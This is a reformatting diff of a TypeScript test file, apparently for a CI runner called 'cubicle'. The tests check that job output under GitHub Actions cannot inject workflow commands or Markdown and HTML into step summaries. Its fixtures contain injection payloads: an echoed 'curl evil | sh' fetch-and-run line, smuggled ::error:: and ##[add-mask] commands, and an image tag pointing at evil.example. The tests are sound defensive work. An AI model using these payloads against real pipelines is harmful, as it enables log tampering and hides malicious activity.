@@ -61,7 +61,8 @@ const attempts: Attempt[] = [
   },
   {
     name: '##[...] anywhere in a line: ##[error], ##[add-mask], ##[command], ##[group]',
-    script: "echo 'compiling... ##[error]PWNED-legacy'\necho 'x ##[add-mask]PWNED-legacy-mask'\necho '##[command]curl evil | sh'\necho '##[group]PWNED fake group'\n",
+    script:
+      "echo 'compiling... ##[error]PWNED-legacy'\necho 'x ##[add-mask]PWNED-legacy-mask'\necho '##[command]curl evil | sh'\necho '##[group]PWNED fake group'\n",
     control: ['v1:error', 'v1:add-mask', 'render:command', 'v1:group'],
     shown: 'PWNED-legacy',
   },
@@ -134,7 +135,10 @@ describe(`class 6: job output under GITHUB_ACTIONS=true yields no workflow comma
     expect(new Set(tokens).size).toBe(6);
     for (const token of tokens) expect(token).toMatch(/^[0-9a-f]{32}$/);
     expect(stoppedWith).toBeUndefined();
-    expectInert(result.stdout, Array.from({ length: 6 }, (_, index) => `j${index}`));
+    expectInert(
+      result.stdout,
+      Array.from({ length: 6 }, (_, index) => `j${index}`),
+    );
   });
 
   it('a job name carrying \\n::error:: (a config problem quotes it, outside any fence)', async () => {
@@ -149,7 +153,9 @@ describe(`class 6: job output under GITHUB_ACTIONS=true yields no workflow comma
   });
 
   it("a setup step's run carrying \\n::error:: and ##[add-mask] (printed as it starts, and in its failure)", async () => {
-    const project = makeProject('jobs:\n  evil:\n    setup:\n      - run: "echo step\\n::error::PWNED-run\\n##[add-mask]PWNED-run2\\nexit 3"\n        network: none\n    run: "true"\n  bystander:\n    run: echo bystander-ok\n');
+    const project = makeProject(
+      'jobs:\n  evil:\n    setup:\n      - run: "echo step\\n::error::PWNED-run\\n##[add-mask]PWNED-run2\\nexit 3"\n        network: none\n    run: "true"\n  bystander:\n    run: echo bystander-ok\n',
+    );
     const result = await project.cubicle(['run', '--json', 'results.json'], { env: GITHUB });
     expect(result.exitCode).toBe(1);
     expect(result.stdout).toContain('PWNED-run2');
@@ -167,7 +173,7 @@ describe(`class 6: job output under GITHUB_ACTIONS=true yields no workflow comma
         '  evil:',
         '    services:',
         '      db:',
-        "        run: [sh, -c, \"echo '::add-mask::PWNED-svc'; sleep 30\"]",
+        '        run: [sh, -c, "echo \'::add-mask::PWNED-svc\'; sleep 30"]',
         '        health:',
         "          command: [sh, -c, \"echo '::add-mask::PWNED-health'; printf 'x\\\\n::error::PWNED-health2\\\\r##[error]y'; exit 1\"]",
         '          interval: 100ms',
@@ -257,7 +263,9 @@ describe(`class 6: the Action (dist/ under Node 24) quotes job text inertly (${W
     expect(main.exitCode, main.log).toBe(1);
     const { commands, stoppedWith } = parseWorkflowCommands(main.log);
     expect(stoppedWith).toBeUndefined();
-    const dangerous = commands.filter((command) => !['group', 'endgroup', 'error', 'stop-commands'].includes(command.name.toLowerCase()) && !/^[0-9a-f]{32}$/.test(command.name));
+    const dangerous = commands.filter(
+      (command) => !['group', 'endgroup', 'error', 'stop-commands'].includes(command.name.toLowerCase()) && !/^[0-9a-f]{32}$/.test(command.name),
+    );
     expect(dangerous, main.log).toEqual([]);
     // The annotation: one command, on the step (no file of the attacker's), the test's texts inside it.
     const annotations = errorCommands(main.log).filter((command) => command.message.includes('PWNED'));
@@ -272,8 +280,12 @@ describe(`class 6: the Action (dist/ under Node 24) quotes job text inertly (${W
 
   it('Markdown and HTML in a failure message do not reach the step summary as markup (<img>, a table break, a link, a heading)', async () => {
     const runner = new Runner();
-    const run = "echo hi\\n| injected | row |\\n| --- | --- |\\n<img src=https://evil.example/PWNED.png> [click](https://evil.example) ## PWNED <!-- ` ::add-mask::PWNED-sum\\nexit 7";
-    fs.writeFileSync(path.join(runner.workspace, 'cubicle.config.yaml'), `jobs:\n  evil:\n    setup:\n      - run: "${run}"\n        network: none\n    run: "true"\n  bystander:\n    run: echo bystander-ok\n`);
+    const run =
+      'echo hi\\n| injected | row |\\n| --- | --- |\\n<img src=https://evil.example/PWNED.png> [click](https://evil.example) ## PWNED <!-- ` ::add-mask::PWNED-sum\\nexit 7';
+    fs.writeFileSync(
+      path.join(runner.workspace, 'cubicle.config.yaml'),
+      `jobs:\n  evil:\n    setup:\n      - run: "${run}"\n        network: none\n    run: "true"\n  bystander:\n    run: echo bystander-ok\n`,
+    );
     const main = await runner.run('main', { cache: 'false', 'setup-host': 'false' });
     expect(main.exitCode, main.log).toBe(1);
     const summary = main.summary;
@@ -289,7 +301,9 @@ describe(`class 6: the Action (dist/ under Node 24) quotes job text inertly (${W
     expect(rows[6]!.replaceAll('\\|', '').split('|')).toHaveLength(6);
     // cubicle's two headings (the run, the failed tests), none from the job.
     expect(summary.split('\n').filter((line) => /^#{1,6} /.test(line))).toEqual([expect.stringMatching(/^## cubicle: /), '### Failed tests']);
-    const dangerous = parseWorkflowCommands(main.log).commands.filter((command) => !['group', 'endgroup', 'error', 'stop-commands'].includes(command.name.toLowerCase()) && !/^[0-9a-f]{32}$/.test(command.name));
+    const dangerous = parseWorkflowCommands(main.log).commands.filter(
+      (command) => !['group', 'endgroup', 'error', 'stop-commands'].includes(command.name.toLowerCase()) && !/^[0-9a-f]{32}$/.test(command.name),
+    );
     expect(dangerous, main.log).toEqual([]);
   });
 });
